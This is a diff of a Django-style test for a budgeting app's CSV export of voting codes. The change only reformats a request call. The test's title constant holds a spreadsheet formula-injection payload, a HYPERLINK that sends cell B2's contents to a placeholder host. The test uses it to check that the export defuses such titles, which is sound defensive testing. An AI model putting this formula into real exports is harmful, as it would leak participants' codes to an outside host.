@@ -16,8 +16,9 @@ TITLE = '=HYPERLINK("http://example.invalid/?c="&B2,"Riverside decides")'
 def test_the_codes_file_writes_a_title_that_would_run_as_text(sign_in, make_round, staff):
     round_ = make_round(verification=BudgetRound.Verification.CODE)
     BudgetRound.objects.filter(pk=round_.pk).update(title=TITLE)
-    response = sign_in(staff).post(reverse("participation:codes", kwargs={"pk": round_.pk}),
-                                   {"count": "2", "download": "on"})
+    response = sign_in(staff).post(
+        reverse("participation:codes", kwargs={"pk": round_.pk}), {"count": "2", "download": "on"}
+    )
     assert response["Content-Type"].startswith("text/csv")
     rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
     assert rows[0] == ["round", "code"]
